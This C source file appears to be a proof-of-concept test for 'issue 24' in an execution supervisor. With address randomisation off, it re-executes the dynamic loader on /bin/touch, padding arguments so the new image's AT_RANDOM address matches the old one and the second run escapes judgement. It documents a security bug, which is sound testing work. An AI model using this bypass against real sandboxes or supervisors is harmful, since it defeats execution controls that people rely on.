/* The "judged once" attack (issue 24): run through a loader as
 *     setarch -R LOADER /opt/eg/reexec OUT PAD
 * it re-executes LOADER /bin/touch OUT PAD2 in the same process, with PAD2 as much longer
 * than PAD as "/opt/eg/reexec" is than "/bin/touch": the same number of arguments, the same
 * bytes of strings and the same environment, so with address randomisation off the second
 * image's AT_RANDOM bytes lie at the same address as the first's. A supervisor that takes an
 * image as judged by (pid, that address) lets the second loader run through unjudged. */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

int main(int argc, char **argv)
{
	if (argc != 3) {
		fprintf(stderr, "usage: LOADER %s OUT PAD\n", argv[0]);
		return 2;
	}
	const char *loader = getenv("REEXEC_LOADER");
	if (!loader)
#if defined(__aarch64__)
		loader = "/lib/ld-linux-aarch64.so.1";
#else
		loader = "/lib64/ld-linux-x86-64.so.2";
#endif
	size_t pad = strlen(argv[2]) + strlen(argv[0]) - strlen("/bin/touch");
	char *pad2 = malloc(pad + 1);
	if (!pad2)
		return 2;
	memset(pad2, 'p', pad);
	pad2[pad] = 0;
	/* argv[0] of this image is the program's path as the loader was given it. */
	char *args[] = {(char *)loader, "/bin/touch", argv[1], pad2, NULL};
	execv(loader, args);
	perror("execv");
	return 1;
}
